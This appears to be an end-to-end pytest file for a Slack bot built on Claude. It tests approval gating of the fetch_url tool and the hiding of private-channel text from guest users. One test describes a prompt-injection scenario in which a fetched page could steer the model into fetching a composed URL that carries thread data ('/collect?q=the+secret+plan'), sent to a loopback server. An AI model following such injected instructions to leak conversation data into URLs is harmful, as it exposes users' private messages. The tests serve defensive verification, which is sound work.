"""Text others wrote stays in its place: fetch_url reads only links people wrote unless the asker approves, and a
thread's reads of other conversations are not shown to someone who cannot see them."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
from aiohttp import web

from tests.e2e.conftest import BotFactory, RunningBot
from tests.e2e.helpers import settle, wait_for_reply
from tests.fakes.anthropic_api import FakeAnthropic, RecordedRequest, TextReply, ToolUseReply
from tests.fakes.slack_api import ApiCall, FakeSlack
from tests.fakes.slack_requests import app_mention, block_action, event_callback


def tool_results(request: RecordedRequest) -> list[dict]:
    last = request.messages[-1]
    return [b for b in last["content"] if isinstance(b, dict) and b.get("type") == "tool_result"]


def result_text(block: dict) -> str:
    content = block["content"]
    return content if isinstance(content, str) else "".join(part.get("text", "") for part in content)


def is_approval_prompt(call: ApiCall) -> bool:
    return "tool_approve" in str(call.params.get("blocks"))


def approval_id(prompt: ApiCall, action: str) -> str:
    blocks = prompt.params["blocks"]
    blocks = json.loads(blocks) if isinstance(blocks, str) else blocks
    return next(e["value"] for b in blocks if b["type"] == "actions" for e in b["elements"] if e["action_id"] == action)


@dataclass
class Site:
    url: str
    hits: list[str] = field(default_factory=list)


@pytest.fixture
async def site() -> AsyncIterator[Site]:
    """A page on loopback that records every request it gets (path and query)."""
    found = Site(url="")

    async def page(request: web.Request) -> web.Response:
        found.hits.append(request.path_qs)
        return web.Response(text="<title>Notes</title><p>The launch is on Tuesday.</p>", content_type="text/html")

    app = web.Application()
    app.router.add_get("/{tail:.*}", page)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    found.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
    yield found
    await runner.cleanup()


@pytest.fixture
async def bot(start_bot: BotFactory) -> RunningBot:
    # 127.0.0.1 exempt from the private-address check only; it does not exempt anything from approval.
    return await start_bot(fetch_url_allow_hosts="127.0.0.1")


async def test_a_link_the_person_wrote_is_fetched_without_asking(
    bot: RunningBot, slack: FakeSlack, claude: FakeAnthropic, site: Site
) -> None:
    claude.script(ToolUseReply("fetch_url", {"url": f"{site.url}/notes"}), TextReply("Tuesday."))
    root = "1700000701.000100"
    await bot.sender.send_event(event_callback(app_mention(f"when is the launch? <{site.url}/notes>", ts=root)))
    await wait_for_reply(slack, "C0GENERAL", root, "Tuesday.")
    assert site.hits == ["/notes"]
    assert not any(is_approval_prompt(c) for c in slack.calls_to("chat.postMessage"))
    [result] = tool_results(claude.requests[1])
    assert "The launch is on Tuesday." in result_text(result)


async def test_a_url_claude_composed_waits_for_the_askers_approve(
    bot: RunningBot, slack: FakeSlack, claude: FakeAnthropic, site: Site
) -> None:
    """The page could have told Claude to send the thread to a URL of its choosing: the asker sees it first."""
    leak = f"{site.url}/collect?q=the+secret+plan"
    claude.script(ToolUseReply("fetch_url", {"url": leak}), TextReply("Fetched it."))
    root = "1700000702.000100"
    await bot.sender.send_event(event_callback(app_mention(f"summarise <{site.url}/notes>", ts=root)))
    [prompt] = await slack.wait_for("chat.postMessage", where=is_approval_prompt, timeout=10)
    assert "the+secret+plan" in str(prompt.params["blocks"])  # the asker sees exactly what would be fetched
    await settle(0.3)
    assert site.hits == []  # not contacted before the Approve
    await bot.sender.send_interaction(
        block_action(
            "tool_approve",
            value=approval_id(prompt, "tool_approve"),
            message_ts=prompt.response["ts"],
            response_url=slack.new_response_url(),
        )
    )
    await wait_for_reply(slack, "C0GENERAL", root, "Fetched it.")
    assert site.hits == ["/collect?q=the+secret+plan"]


async def test_a_denied_composed_url_is_never_contacted(
    bot: RunningBot, slack: FakeSlack, claude: FakeAnthropic, site: Site
) -> None:
    claude.script(ToolUseReply("fetch_url", {"url": f"{site.url}/x?data=1"}), TextReply("Not fetched."))
    root = "1700000703.000100"
    await bot.sender.send_event(event_callback(app_mention("look something up", ts=root)))
    [prompt] = await slack.wait_for("chat.postMessage", where=is_approval_prompt, timeout=10)
    await bot.sender.send_interaction(
        block_action(
            "tool_deny",
            value=approval_id(prompt, "tool_deny"),
            message_ts=prompt.response["ts"],
            response_url=slack.new_response_url(),
        )
    )
    await wait_for_reply(slack, "C0GENERAL", root, "Not fetched.")
    assert site.hits == []
    [result] = tool_results(claude.requests[1])
    assert result["is_error"] and "denied" in result_text(result)


async def test_a_guest_asking_in_a_thread_that_read_a_channel_they_cannot_see_gets_none_of_its_text(
    running: RunningBot, slack: FakeSlack, claude: FakeAnthropic
) -> None:
    """User A's thread read #secret; guest B (not in #secret) follows up: nothing of #secret goes to Claude for B."""
    slack.add_channel("C0SECRET", name="secret", members=["UBOT", "U0USER"])
    slack.add_history("C0SECRET", [{"ts": "1700000000.000900", "user": "U0USER", "text": "launch codes are 0451"}])
    slack.add_user("U0GUEST", name="guest")["is_restricted"] = True  # a guest: sees only channels they are in
    root = "1700000704.000100"
    claude.script(ToolUseReply("read_channel", {"channel": "<#C0SECRET|secret>"}), TextReply("Read it."))
    await running.sender.send_event(event_callback(app_mention("what's new in #secret?", ts=root)))
    await wait_for_reply(slack, "C0GENERAL", root, "Read it.")
    assert "0451" in str(claude.requests[1].body)  # A may see it

    claude.script(TextReply("Nothing I can share."))
    follow_up = app_mention("and what did it say exactly?", ts="1700000704.000300", thread_ts=root, user="U0GUEST")
    await running.sender.send_event(event_callback(follow_up))
    await wait_for_reply(slack, "C0GENERAL", root, "Nothing I can share.")
    for_guest = str(claude.requests[2].body)
    assert "0451" not in for_guest and "launch codes" not in for_guest
    assert "not shown: the person asking now cannot see that conversation" in for_guest

    claude.script(TextReply("Still 0451."))
    again = app_mention("remind me?", ts="1700000704.000500", thread_ts=root)
    await running.sender.send_event(event_callback(again))
    await wait_for_reply(slack, "C0GENERAL", root, "Still 0451.")
    assert "launch codes are 0451" in str(claude.requests[3].body)  # A, a member, still gets it
